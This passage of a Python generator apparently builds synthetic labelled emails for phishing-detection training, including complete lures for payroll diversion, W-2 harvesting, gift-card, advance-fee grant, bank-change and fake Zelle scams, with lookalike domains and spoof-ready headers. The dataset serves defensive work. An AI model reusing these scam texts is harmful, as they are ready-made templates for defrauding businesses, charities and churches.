             '<span style="font-size:10.0pt;color:#1F4E79">Amira Siddiqui | Trainee Solicitor</span>',
             '<span style="font-size:10.0pt;color:#1F4E79">Ashdown Pryce Solicitors | 41 Queen Square, Bristol BS1 4QS | 0117 925 3306</span>']
    alt_part = outlook_msg(r, paras, lang="EN-GB")
    doc = files.docx(["IN THE COUNTY COURT AT BRISTOL", "Claim No. K10BS412", "BETWEEN", "DAVID FOWLER (Claimant)", "and",
                      "KINSEY LOGISTICS LIMITED (Defendant)", "WITNESS STATEMENT OF DAVID FOWLER", "DRAFT 1 - PRIVILEGED",
                      "I, David Fowler, of Fishponds, Bristol, will say as follows:",
                      "1. I make this statement in support of my claim against the Defendant for damages arising from the accident on 3 March 2023.",
                      "2. At around 7.40am I was making a delivery at the Defendant's depot at Avonmouth."],
                     "Witness statement - D Fowler - draft 1", "Amira Siddiqui")
    body = Multi("mixed", oboundary(r, "mix", "004"),
                 [alt_part, attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                                       "Fowler - WS draft 1 (AS).docx", doc)])
    fields = ["From: Amira Siddiqui <amira.siddiqui@ashdownpryce.co.uk>", f"To: Helen Ashdown <{rcpt}>",
              "Subject: Fowler v Kinsey - draft WS + the Part 36 email", "Thread-Topic: Fowler v Kinsey - draft WS + the Part 36 email",
              f"Thread-Index: AdsPG{r.b64('ti', 18)[:22]}==", f"Date: {rfc(t, 'Europe/London')}",
              f"Message-ID: <{exo_hosts(r, 'gbr', 'int')['mbx'].split('.')[0]}{r.hex('mid', 24, True)}@{exo_hosts(r, 'gbr', 'int')['mbx']}>",
              "Accept-Language: en-GB, en-US", "Content-Language: en-GB", "X-MS-Has-Attach: yes",
              "X-MS-TNEF-Correlator: ", "msip_labels: "]
    data = assemble_split(top + fields, body, bottom)
    return done("clean", kind, slug,
                "Internal Microsoft 365 mail (AuthAs Internal) from a trainee to her partner with a draft witness statement in Word, "
                "mentioning the suspicious Part 36 email she reported.",
                data)


@sample
def legit_box_lender():
    kind, slug = "bulk", "box-closing-package-lender-keystone"
    r = S(kind, slug)
    c = CLIENTS["keystone"]
    t = T(2024, 10, 22, 14, 9, 50)
    rcpt = "rfisher@keystonelandtitle.com"
    fid = r.num("fid", 100000000000, 999999999999)
    link = f"https://app.box.com/folder/{fid}?s={r.alnum('s', 32)}"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#f4f4f4"><table width="100%" cellpadding="0" cellspacing="0" style="background:#f4f4f4"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Lato,Helvetica,Arial,sans-serif;color:#222">
<tr><td style="padding:24px 32px"><img src="https://e3.boxcdn.net/assets/emails/box-logo-blue@2x.png" width="58" height="32" alt="box"></td></tr>
<tr><td style="padding:0 32px;font-size:20px;line-height:28px"><b>Cheryl Stambaugh</b> invited you to collaborate on a folder</td></tr>
<tr><td style="padding:16px 32px;font-size:14px;line-height:21px;color:#4e4e4e">&ldquo;Renee &#8211; closing package and CD for the Yoder refinance (loan 4410023871) are in the folder. Funding number to follow once you confirm the signing.&rdquo;</td></tr>
<tr><td style="padding:8px 32px"><table cellpadding="0" cellspacing="0" style="border:1px solid #e8e8e8;border-radius:4px" width="100%"><tr><td style="padding:12px 16px;font-size:14px">&#128193; <b>Yoder - Loan 4410023871 - Closing</b><br><span style="color:#767676;font-size:12px">Susquehanna Valley FCU &middot; Editor</span></td></tr></table></td></tr>
<tr><td style="padding:20px 32px"><a href="{link}" style="background:#0061d5;color:#ffffff;text-decoration:none;padding:10px 20px;border-radius:4px;font-size:14px;font-weight:bold">Accept Invite</a></td></tr>
<tr><td style="padding:24px 32px;font-size:11px;color:#909090;line-height:16px">You received this email because Cheryl Stambaugh (cstambaugh@svfcu.org) invited you to collaborate in Box.<br>
<a href="https://app.box.com/notifications" style="color:#909090">Notification settings</a> &middot; <a href="https://www.box.com/legal/privacypolicy" style="color:#909090">Privacy</a><br>Box, Inc., 900 Jefferson Ave, Redwood City, CA 94063</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", f"----=_Part_{r.num('p', 1000000, 9999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html) + f"\nAccept Invite: {link}\n"), text(html, "html")])
    ip = f"74.112.{r.num('ip3', 184, 187)}.{r.num('ip4', 10, 250)}"
    helo = f"smtp-out{r.num('h', 1, 9)}.box.com"
    sender = [dkim(r, "box.com", "s2048", "Content-Type:MIME-Version:From:To:Reply-To:Subject:Date:Message-ID", t, "generic"),
              f"Received: from app-notify-{r.num('an', 10, 99)}.pod-{r.num('pod', 1, 9)}.box.net (unknown [10.{r.num('x', 1, 99)}.{r.num('y', 1, 250)}.{r.num('z', 1, 250)}])\n\tby {helo} (Postfix) with ESMTP id 4X{r.alnum('q', 9, 'BCDFGHJKLMNPQRSTVWXYZ0123456789')}\n\tfor <{rcpt}>; {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}"]
    headers = ["MIME-Version: 1.0",
               "From: \"Cheryl Stambaugh (via Box)\" <noreply@box.com>", "Reply-To: cstambaugh@svfcu.org", f"To: {rcpt}",
               "Subject: Cheryl Stambaugh invited you to collaborate on \"Yoder - Loan 4410023871 - Closing\"",
               f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}",
               f"Message-ID: <{r.hex('mid', 24)}.{r.num('mid2', 1000, 9999)}@box.com>", "X-Box-Notification-Type: collab_invite"]
    a = AU(f"bounces+{r.num('bn', 100000, 999999)}@mail.box.com", ip, "pass", [("box.com", "s2048", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="box.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=3), helo, ip, a, sender, headers, body)
    return done("bulk", kind, slug,
                "Real Box collaboration invite from box.com: the lender's closer shares the closing-package folder with the title "
                "company's closer, with a plain app.box.com folder link and Box's own footer.",
                data)


# =========================================================================== attacks: payroll, W-2/W-9, church, charity

def iphone_via_gmail(r: R, t: datetime, mailfrom: str, client_ip: str) -> list[str]:
    """Apple Mail on iOS sending through smtp.gmail.com."""
    return gmail_sender(r, t, "gmail.com", "20230601")[:-1] + [
        f"X-Received: by {g_v6(r, 'ix')} with SMTP id\n {g_smtpid(r, 'ix', t)}; {gdate(t + timedelta(seconds=1))}",
        f"Return-Path: <{mailfrom}>",
        f"Received: from smtpclient.apple ([{client_ip}])\n        by smtp.gmail.com with ESMTPSA id {r.alnum('esa', 22)}.{r.num('esn', 10, 99)}.{t.astimezone(ZoneInfo('America/Los_Angeles')):%Y.%m.%d.%H.%M.%S}\n"
        f"        for <{{RCPT}}>\n        (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256 bits=128/128);\n        {gdate(t)}",
    ]


@sample
def payroll_dd_gmail():
    kind, slug = "phish", "payroll-direct-deposit-change-gmail-mendell"
    r = S(kind, slug)
    c = CLIENTS["mendell"]
    t = T(2024, 5, 21, 13, 4, 26)
    rcpt = "bhollis@mendellokafor.com"
    mailfrom = "jorge.ramirez.cpa@gmail.com"
    sender = [ln.replace("{RCPT}", rcpt) for ln in iphone_via_gmail(r, t, mailfrom, "172.58.142.17")]
    sender = [s for s in sender if not s.startswith("Return-Path")]
    helo, ip = google_out_host(r)
    body = Leaf("text/plain", ("Hi Brenda,\n\nI recently switched banks and would like to update my direct deposit info "
                               "before the next payroll. Can you let me know what you need from me to get it changed?\n\n"
                               "Thanks,\nJorge\n\nSent from my iPhone").encode(), "7bit", '; charset=us-ascii')
    headers = [f"From: Jorge Ramirez <{mailfrom}>",
               "Mime-Version: 1.0 (1.0)", f"Date: {rfc(t, 'America/New_York')}", "Subject: Direct deposit",
               f"Message-Id: <{r.guid('mid', True)}@gmail.com>", "To: Brenda Hollis <bhollis@mendellokafor.com>",
               "X-Mailer: iPhone Mail (21E236)"]
    a = AU(mailfrom, ip, "pass", [("gmail.com", "20230601", "pass")], "pass", "p=NONE sp=QUARANTINE dis=NONE")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, sender, headers, body)
    return done("phishing", kind, slug,
                "Payroll diversion opener: a staff accountant's name on a new Gmail address, sent from an iPhone, asking HR how to "
                "change his direct deposit before payroll. No link, no attachment, passes Gmail's DMARC.",
                data)


@sample
def payroll_dd_lookalike():
    kind, slug = "phish", "payroll-direct-deposit-lookalike-zoho-hillcrest"
    r = S(kind, slug)
    c = CLIENTS["hillcrest"]
    t = T(2024, 10, 8, 14, 37, 9)
    rcpt = "dcarver@hillcrestmontessori.org"
    dom = "hillcrestmontesori.org"
    frm = f"aaron.wells@{dom}"
    zid = f"{r.hex('z1', 11)}.{r.hex('z2', 16)}.{r.num('z3', 10**18, 10**19 - 1)}"
    html = ("<!DOCTYPE html><html><head><meta content=\"text/html;charset=UTF-8\" http-equiv=\"Content-Type\"></head>"
            "<body ><div style=\"font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;\">"
            "<div>Hi Denise,<br></div><div><br></div><div>Thank you. I've attached the completed form with my new account "
            "details. Please make sure it takes effect for this Friday's payroll, my old account is being closed.<br></div>"
            "<div><br></div><div>Thanks again,<br></div><div>Aaron<br></div><div><br></div>"
            "<div class=\"zmail_extra_hr\" style=\"border-top: 1px solid rgb(204, 204, 204); height: 0px; margin-top: 10px; margin-bottom: 10px; line-height: 0px;\"><br></div>"
            "<div class=\"zmail_extra\" data-zmail_extra=\"\"><div><br></div><div id=\"Zm-_Id_-Sgn1\">---- On Mon, 07 Oct 2024 09:14:22 -0500 "
            "<b>Denise Carver &lt;dcarver@hillcrestmontessori.org&gt;</b> wrote ---<br></div><div><br></div>"
            "<blockquote style=\"border-left: 1px solid rgb(204, 204, 204); padding-left: 6px; margin: 0px 0px 0px 5px;\">"
            "<div>Hi Aaron,<br><br>Sure, please fill out the attached direct deposit form and send it back along with a voided "
            "check or bank letter. Changes received by Wednesday go into that week's payroll.<br><br>Denise Carver<br>Business "
            "Manager | Hillcrest Montessori School<br>(630) 355-0192</div></blockquote></div><div><br></div></div><br></body></html>\n")
    pdf = text_pdf(["HILLCREST MONTESSORI SCHOOL", "EMPLOYEE DIRECT DEPOSIT AUTHORIZATION", "",
                    "Employee name: Aaron Wells              Position: Lower Elementary Guide",
                    "Action: [X] Change existing   [ ] New   [ ] Cancel", "",
                    "Bank name: Chime / Stride Bank, N.A.", "Routing number: 103100195", "Account number: 3870 1146 2259",
                    "Account type: [X] Checking  [ ] Savings", "Deposit: 100% of net pay", "",
                    "I authorize Hillcrest Montessori School to deposit my pay to the account above.",
                    "Signature: A. Wells                                    Date: 10/08/2024"],
                   "Direct Deposit Form", "Zoho Sign", date="D:20241008093155-05'00'")
    body = Multi("mixed", f"----=_Part_{r.num('zp', 100000, 999999)}_{r.num('zp2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [Multi("alternative", f"----=_Part_{r.num('zq', 100000, 999999)}_{r.num('zq2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                        [text(strip_tags(html)), text(html, "html")]),
                  attachment("application/pdf", "DD form - A Wells.pdf", pdf)])
    ts = int(t.timestamp())
    sender = [
        f"ARC-Seal: i=1; a=rsa-sha256; t={ts}; cv=none; \n\td=zohomail.com; s=zohoarc; \n\tb=" + "\n\t".join(r.b64("zarc", 256)[i:i + 70] for i in range(0, 344, 70)),
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.com; s=zohoarc; \n\tt={ts}; h=Content-Type:Date:Date:From:From:In-Reply-To:MIME-Version:Message-ID:References:Subject:Subject:To:To:Message-Id:Reply-To; \n\tbh={r.b64('zbh', 32)}; \n\tb=" + "\n\t".join(r.b64("zams", 256)[i:i + 70] for i in range(0, 344, 70)),
        f"ARC-Authentication-Results: i=1; mx.zohomail.com;\n\tdkim=pass  header.i={dom};\n\tspf=pass  smtp.mailfrom={frm};\n\tdmarc=pass header.from=<{frm}>",
        dkim(r, dom, "zmail", "Date:Date:From:From:To:To:Message-Id:Message-Id:In-Reply-To:References:Subject:Subject:MIME-Version:Content-Type:Reply-To", t, "generic",
             extra=f" q=dns/txt; i={frm};"),
        f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {ts}{r.num('zs', 100, 999)}{r.num('zs2', 100, 999)}.{r.num('zs3', 100000, 999999)}{r.num('zs4', 10000000, 99999999)};\n\t{format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))} (PDT)",
    ]
    headers = [f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Chicago')))}", f"From: Aaron Wells <{frm}>",
               "To: \"Denise Carver\" <dcarver@hillcrestmontessori.org>", f"Message-Id: <{zid}@{dom}>",
               f"In-Reply-To: <SN7PR03MB{r.num('ir', 1000, 9999)}{r.hex('ir2', 20, True)}@SN7PR03MB{r.num('ir', 1000, 9999)}.namprd03.prod.outlook.com>",
               f"References: <SN7PR03MB{r.num('ir', 1000, 9999)}{r.hex('ir2', 20, True)}@SN7PR03MB{r.num('ir', 1000, 9999)}.namprd03.prod.outlook.com>",
               "Subject: RE: Direct deposit update", "MIME-Version: 1.0", "Importance: Medium", "User-Agent: Zoho Mail", "X-Mailer: Zoho Mail"]
    ip = f"136.143.188.{r.num('zip', 11, 99)}"
    helo = f"sender4-op-o{ip.split('.')[-1]}.zoho.com"
    a = AU(frm, ip, "pass", [(dom, "zmail", "pass")], None, from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=3), helo, ip, a, sender, headers, body, ptr=helo)
    return done("phishing", kind, slug,
                "Second step of a payroll diversion: after HR replied, the 'teacher' on a one-letter lookalike domain (Zoho Mail, "
                "SPF/DKIM pass, no DMARC) returns a filled direct-deposit form for a neobank account; no link.",
                data)


@sample
def w2_request_ceo():
    kind, slug = "phish", "w2-request-ceo-lookalike-tallgrass"
    r = S(kind, slug)
    c = CLIENTS["tallgrass"]
    t = T(2025, 1, 28, 17, 41, 55)
    rcpt = "jordan@tallgrassdigital.com"
    dom = "tallgrass-digital.com"
    frm = f"rachel.tanaka@{dom}"
    lines = ["Jordan,", "", "I need the 2024 W-2s for all staff (PDF copies, including the contractors' 1099s if you have them) "
             "for a meeting with our CPA this afternoon about the Q1 filing. Can you send them to me within the hour?", "",
             "I'm in back to back meetings so email only please.", "", "Thanks,", "Rachel", "", "Sent from my iPhone"]
    html = ('<!doctype html>\n<html>\n <head> \n  <meta charset="UTF-8"> \n </head>\n <body>\n'
            + "".join(f'  <div class="default-style">\n   {ln or "<br>"}\n  </div>\n' for ln in lines) + " </body>\n</html>\n")
    body = Multi("alternative", f"----=_Part_{r.num('p', 100000, 999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text("\n".join(lines) + "\n", encoding="7bit", charset="UTF-8"), text(html, "html", "7bit", "UTF-8")])
    qid = r.alnum("q", 10, "BCDFGHJKLMNPQRSTVWXYZ0123456789")
    sender = [dkim(r, dom, "default", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:From", t, "generic"),
              f"Received: from APP-0{r.num('app', 1, 9)} (unknown [10.50.14.{r.num('ap', 100, 200)}])\n\t(Authenticated sender: {frm})\n\tby mta-{r.num('mta', 10, 19)}.privateemail.com (Postfix) with ESMTPA id 4Yj{qid};\n\t{format_datetime(t.astimezone(ZoneInfo('America/New_York')))} (EST)",
              f"Received: from mta-{r.num('mta', 10, 19)}.privateemail.com (localhost [127.0.0.1])\n\tby mta-{r.num('mta', 10, 19)}.privateemail.com (Postfix) with ESMTP id 4Yj{qid[:-2]}Q2;\n\t{format_datetime(t.astimezone(ZoneInfo('America/New_York')))} (EST)"]
    sender = [sender[0], sender[2], sender[1]]
    headers = [f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Chicago')))}", f"From: Rachel Tanaka <{frm}>",
               "To: Jordan Ellis <jordan@tallgrassdigital.com>",
               f"Message-ID: <{r.num('ox1', 100000000, 2000000000)}.{r.num('ox2', 100000, 999999)}.{int(t.timestamp() * 1000)}@privateemail.com>",
               "Subject: W-2s", "MIME-Version: 1.0", "X-Priority: 3", "Importance: Normal",
               "X-Mailer: Open-Xchange Mailer v7.10.6-Rev64", "X-Originating-Client: open-xchange-appsuite"]
    ip = f"198.54.127.{r.num('ip', 40, 90)}"
    helo = f"mta-{r.num('mta', 10, 19)}-{r.num('mta2', 1, 4)}.privateemail.com"
    a = AU(frm, ip, "pass", [(dom, "default", "pass")], None, from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, sender, headers, body, ptr=helo)
    return done("phishing", kind, slug,
                "W-2 harvesting BEC in January: the CEO's name on a hyphenated lookalike domain (Namecheap Private Email, SPF/DKIM "
                "pass, no DMARC) asks the ops manager for every employee's W-2 within the hour, email only.",
                data)


@sample
def w9_vendor_portal():
    kind, slug = "phish", "w9-vendor-portal-sendgrid-pinegate"
    r = S(kind, slug)
    c = CLIENTS["pinegate"]
    t = T(2024, 12, 9, 15, 12, 4)
    rcpt = "dpruitt@pinegaterealty.com"
    dom = "gulfcoastpm-services.com"
    final = f"https://thecraftybeaverpottery.com/wp-includes/js/vendor/w9/?vid={r.hex('vid', 10)}"
    track = f"https://u{r.num('u', 1000000, 49999999)}.ct.sendgrid.net/ls/click?upn=u001.{r.b64url('upn', 120)}-2B{r.b64url('upn2', 40)}"
    html = f"""<html><body style="font-family:Calibri,Arial,sans-serif;font-size:14px;color:#222">
<p>Good afternoon,</p>
<p>As part of our year-end 1099 reporting, Gulf Coast Property Management is updating vendor records for all brokerages and referral partners who received commission or referral payments in 2024.</p>
<p>Our records show that we do not have a current Form W-9 on file for <b>Pinegate Realty Group</b>. To avoid backup withholding (24%) on outstanding referral payments, please complete the secure W-9 through our vendor portal by <b>December 16, 2024</b>.</p>
<p style="padding:8px 0"><a href="{track}" style="background:#1b5e7a;color:#fff;padding:10px 18px;text-decoration:none;border-radius:4px">Complete W-9 Securely</a></p>
<p>The portal will ask you to sign in with your business email to verify your identity before submitting TIN information.</p>
<p>Thank you,<br>Accounts Payable<br>Gulf Coast Property Management<br>4601 W Kennedy Blvd, Suite 210, Tampa, FL 33609</p>
<img src="https://u{r.num('u', 1000000, 49999999)}.ct.sendgrid.net/wf/open?upn=u001.{r.b64url('open', 90)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important">
</body></html>
"""
    _ = final
    body = Multi("alternative", r.hex("sgb", 60), [text(strip_tags(html).replace("Complete W-9 Securely", f"Complete W-9 Securely ( {track} )")), text(html, "html")])
    lines, helo, ip, msgid = sendgrid_lines(r, t, dom)
    headers = [f"Date: {format_datetime(t.astimezone(UTC))[:-6]} +0000 (UTC)", f"From: \"Accounts Payable | Gulf Coast PM\" <ap@{dom}>",
               "Mime-Version: 1.0", f"Message-ID: {msgid}", "Subject: Action Required: 2024 Form W-9 Update - Pinegate Realty Group",
               "Reply-To: ap@" + dom, f"X-Feedback-ID: {r.num('fb', 10000000, 99999999)}:SG", f"To: {rcpt}"] + sendgrid_after(r)
    a = AU(f"bounces+{r.num('bn', 10000000, 99999999)}-{r.hex('bh', 4)}-dpruitt=pinegaterealty.com@em{r.num('em', 1000, 9999)}.{dom}",
           ip, "pass", [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, lines, headers, body, verdict=dict(bcl=4))
    return done("phishing", kind, slug,
                "Year-end W-9 request from a fake property-management company sent through SendGrid (all authentication passes); "
                "the 'vendor portal' button is hidden behind SendGrid click tracking and leads to a compromised WordPress site.",
                data)


@sample
def church_giftcard():
    kind, slug = "phish", "pastor-gift-card-request-grace"
    r = S(kind, slug)
    c = CLIENTS["grace"]
    t = T(2024, 11, 22, 15, 8, 31)
    rcpt = "sherry@gracefellowshipfranklin.org"
    paras = ["Hi Sherry,", "",
             "Are you at the office? I need you to handle something for me discreetly. I want to surprise a few of the ladies from "
             "our congregation who are at Willowbrook hospice with gift cards before Thanksgiving, and I'd like it to stay a surprise.", "",
             "Can you pick up 5 Apple gift cards, $100 each, from Kroger or Walgreens? I will reimburse you from the benevolence "
             "fund when I'm back. I'm in a meeting at the hospital and can't take calls, so just reply here.", "",
             "Pastor Mike", "Sent from my iPad"]
    body = gmail_alt(r, paras)
    data = send_gmail(r, c, rcpt, t, "pastormike.danner.gfc@gmail.com", "Pastor Mike Danner <pastormike.danner.gfc@gmail.com>",
                      "sherry@gracefellowshipfranklin.org", "Quick favor", body, "America/Chicago")
    return done("phishing", kind, slug,
                "Pastor-impersonation gift-card scam before Thanksgiving from a new Gmail address in the pastor's name, with a "
                "hospice pretext and 'can't take calls'; no link.",
                data)


@sample
def charity_grant_advance_fee():
    kind, slug = "phish", "grant-award-advance-fee-opentable"
    r = S(kind, slug)
    c = CLIENTS["opentable"]
    t = T(2025, 4, 15, 9, 27, 10)
    rcpt = "rachel.booth@opentablesheffield.org.uk"
    dom = "wellspring-communityfoundation.org"
    html = f"""<div dir="ltr" style="font-family:Georgia,serif;font-size:14px">
<p>Dear Rachel Booth,</p>
<p><b>RE: 2025 FOOD RESILIENCE FUND &#8211; GRANT AWARD NOTIFICATION (Ref: WCF/FRF/25/0418)</b></p>
<p>On behalf of the Trustees of the Wellspring Community Foundation, I am pleased to inform you that <b>Open Table Sheffield</b> has been selected to receive an unrestricted grant of <b>&pound;25,000.00</b> under our 2025 Food Resilience Fund, following a review of registered charities supporting food insecurity in South Yorkshire.</p>
<p>To release the funds, please complete and return the attached Grant Acceptance Form together with your charity's bank details. In line with Foundation policy, a refundable bank verification and compliance fee of &pound;350.00 is payable by the recipient before disbursement; instructions are included on the form.</p>
<p>Please note this award must be accepted within <b>10 working days</b>, after which it will be offered to the next charity on our reserve list. Kindly direct all correspondence to our grants office at <a href="mailto:wellspring.grantsoffice@outlook.com">wellspring.grantsoffice@outlook.com</a>.</p>
<p>Congratulations once again on this award and on the important work you do.</p>
<p>Yours sincerely,</p>
<p>Harriet Lowell<br>Grants Officer<br>Wellspring Community Foundation<br>Registered Charity No. 1187204</p>
</div>
"""
    form = files.docx(["WELLSPRING COMMUNITY FOUNDATION", "GRANT ACCEPTANCE FORM - 2025 FOOD RESILIENCE FUND",
                       "Reference: WCF/FRF/25/0418", "Organisation name: ______________________", "Charity number: ________",
                       "Name of bank: ________  Sort code: ________  Account number: ________",
                       "Authorised signatory (name, position, date of birth): ________",
                       "Bank verification & compliance fee: GBP 350.00 payable to WCF Compliance Services, sort code 04-00-75, account 41882290, reference FRF0418",
                       "Return this form to wellspring.grantsoffice@outlook.com"], "Grant Acceptance Form", "Harriet Lowell")
    body = Multi("mixed", f"=_{r.hex('hb', 32)}",
                 [Multi("alternative", f"=_{r.hex('ha', 32)}", [text(strip_tags(html)), text(html, "html")]),
                  attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Grant Acceptance Form WCF-FRF-25-0418.docx", form)])
    qid = r.alnum("q", 10, "BCDFGHJKLMNPQRSTVWXYZ0123456789")
    sender = [dkim(r, dom, "hostingermail1", "From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type", t, "generic"),
              f"Received: from [102.90.{r.num('c3', 40, 99)}.{r.num('c4', 1, 250)}] (unknown [102.90.{r.num('c3', 40, 99)}.{r.num('c4', 1, 250)}])\n\t(Authenticated sender: grants@{dom})\n\tby smtp.hostinger.com (Postfix) with ESMTPSA id 4Zc{qid};\n\t{format_datetime(t.astimezone(UTC))}"]
    headers = ["MIME-Version: 1.0", f"Date: {format_datetime(t.astimezone(ZoneInfo('Africa/Lagos')))}",
               f"From: Wellspring Community Foundation <grants@{dom}>", "Reply-To: wellspring.grantsoffice@outlook.com",
               f"To: {rcpt}", "Subject: Grant Award Notification - Open Table Sheffield - Ref WCF/FRF/25/0418",
               f"Message-ID: <{r.hex('m', 32)}@{dom}>", "User-Agent: Roundcube Webmail/1.6.6",
               f"X-Sender: grants@{dom}", "Organization: Wellspring Community Foundation"]
    ip = f"145.14.{r.num('i3', 150, 159)}.{r.num('i4', 10, 250)}"
    helo = f"fr-int-smtpout{r.num('h', 1, 9)}.hostinger.io"
    a = AU(f"grants@{dom}", ip, "pass", [(dom, "hostingermail1", "pass")], "pass", from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=3), helo, ip, a, sender, headers, body)
    return done("phishing", kind, slug,
                "Grant-award advance-fee scam to the charity's CEO from a plausible foundation domain on Hostinger (auth passes), "
                "Reply-To an Outlook.com address, asking for bank details and a GBP 350 'verification fee' via a Word form.",
                data)


@sample
def diocese_parish_share():
    kind, slug = "phish", "diocese-parish-share-bank-change-aldhelm"
    r = S(kind, slug)
    c = CLIENTS["aldhelm"]
    t = T(2025, 7, 2, 11, 4, 12)
    rcpt = "treasurer@staldhelms.org.uk"
    dom = "salisburydiocese-finance.org.uk"
    paras = ["Dear Treasurer,", "",
             "Please find attached a letter regarding the Diocesan Board of Finance's change of banking arrangements for Parish Share "
             "contributions, effective from 1 July 2025.", "",
             "Parishes paying by standing order are asked to amend the payee details with their bank before the Q3 instalment. "
             "St Aldhelm's Q3 contribution of &pound;4,615.00 falls due on 15 July. The previous account will be closed at the end "
             "of the month and payments made to it may be returned.", "",
             "Many thanks for your continued generosity and support of mission and ministry across the Diocese.", "",
             "With kind regards", "", "Alison Marsh", "Parish Giving &amp; Finance Officer", "Diocesan Board of Finance",
             "South Canonry, 71 The Close, Salisbury SP1 2ER"]
    alt_part = outlook_msg(r, paras, lang="EN-GB")
    pdf = text_pdf(["DIOCESAN BOARD OF FINANCE", "South Canonry, 71 The Close, Salisbury SP1 2ER", "",
                    "To: The Treasurer, St Aldhelm's PCC", "1 July 2025", "",
                    "Change of bank details - Parish Share contributions", "",
                    "Following a review of our banking arrangements, the Board has moved its operating account.",
                    "With immediate effect, please make all Parish Share payments to:", "",
                    "Account name: DBF Parish Share Collections", "Bank: Metro Bank plc", "Sort code: 23-05-80",
                    "Account number: 41178862", "Reference: PS25 + your parish code (ALD114)", "",
                    "Please do not use the previous account details. If you pay by standing order, kindly",
                    "amend it before 15 July 2025. Email confirmation to finance@salisburydiocese-finance.org.uk", "",
                    "Alison Marsh, Parish Giving & Finance Officer"],
                   "Change of bank details", "Microsoft: Print To PDF", date="D:20250701163022+01'00'")
    body = Multi("mixed", oboundary(r, "mix", "004"),
                 [alt_part, attachment("application/pdf", "DBF Change of Bank Details July 2025.pdf", pdf)])
    data = send_exo(r, c, rcpt, t, f"alison.marsh@{dom}", f"Alison Marsh <alison.marsh@{dom}>",
                    "\"treasurer@staldhelms.org.uk\" <treasurer@staldhelms.org.uk>",
                    "Parish Share 2025 - change of bank details", body, "Europe/London", region="gbr", has_attach=True,
                    dkim_d="salisburydbf.onmicrosoft.com", selector="selector1-salisburydbf-onmicrosoft-com", dmarc=None,
                    lang="en-GB", ctry="GB")
    return done("phishing", kind, slug,
                "Diocesan finance lookalike (its own Microsoft 365 tenant, SPF pass, no DMARC) tells the parish treasurer that "
                "Parish Share must now be paid to a new account, in a letterhead PDF; no link.",
                data)


@sample
def zelle_business_upgrade():
    kind, slug = "phish", "zelle-pending-business-upgrade-grace"
    r = S(kind, slug)
    c = CLIENTS["grace"]
    t = T(2024, 5, 30, 19, 51, 2)
    rcpt = "phil.avery@gracefellowshipfranklin.org"
    host = f"srv{r.num('srv', 1000, 9999)}.hostwindsdns.com"
    html = f"""<html><body style="margin:0;background:#f5f5f5"><center><table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,sans-serif;color:#1b1b1b">
<tr><td style="background:#6d1ed4;padding:18px 24px;color:#fff;font-size:26px;font-weight:bold">Zelle<sup style="font-size:10px">&reg;</sup></td></tr>
<tr><td style="padding:24px;font-size:15px;line-height:22px">
<p><b>Payment Pending: $8,500.00</b></p>
<p>Hello Phil Avery,</p>
<p>You have received a payment of <b>$8,500.00</b> from <b>Kevin Marsh</b> for <i>2016 Ford Transit 15-passenger van</i>. The funds are currently on hold.</p>
<p>Our system shows the recipient account is a <b>personal account</b> and cannot receive payments above the $2,500.00 limit. To release the funds, the account must be upgraded to a <b>Zelle Business Account</b>.</p>
<p>The upgrade fee of <b>$500.00</b> has to be paid by the sender (Kevin Marsh) and will be refunded together with the $8,500.00 into your account immediately after. Please contact the sender so he can complete the upgrade payment.</p>
<p>Do not release the item until the upgrade is complete and you receive the confirmation email from us.</p>
<table width="100%" style="font-size:13px;border-top:1px solid #ddd;margin-top:12px"><tr><td>Transaction ID:</td><td>ZL{r.num('tx', 1000000000, 9999999999)}</td></tr><tr><td>Status:</td><td style="color:#d97706">Pending (Business Upgrade Required)</td></tr></table>
<p style="font-size:12px;color:#777">Zelle and the Zelle related marks are property of Early Warning Services, LLC. Please do not reply to this email.</p>
</td></tr></table></center></body></html>
"""
    body = Multi("alternative", f"b1_{r.hex('b1', 40)}", [text(strip_tags(html)), text(html, "html")])
    sender = [f"Received: from [41.184.{r.num('c3', 1, 250)}.{r.num('c4', 1, 250)}] (port={r.num('port', 40000, 65000)} helo=[127.0.0.1])\n\tby {host} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from <halcyonf@{host}>)\n\tid 1sCmX{r.mixed('ex', 3)}-00{r.mixed('ex2', 4)}-2A\n\tfor {rcpt};\n\t{format_datetime(t.astimezone(ZoneInfo('America/Chicago')))}"]
    headers = [f"Date: {format_datetime(t.astimezone(UTC))}", "To: phil.avery@gracefellowshipfranklin.org",
